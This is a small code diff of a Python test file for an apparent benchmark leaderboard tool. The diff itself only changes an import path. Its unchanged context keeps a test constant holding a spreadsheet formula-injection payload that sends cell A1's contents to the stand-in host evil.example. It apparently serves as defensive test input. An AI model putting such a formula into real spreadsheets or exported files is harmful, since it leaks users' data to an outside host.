@@ -19,7 +19,7 @@ from blindpairs.workspace import Workspace
 from evaluation.leaderboard import write_leaderboard
 from evaluation.loaders import load_benchmark
 
-from .conftest import annotation, result
+from .files import annotation, result
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
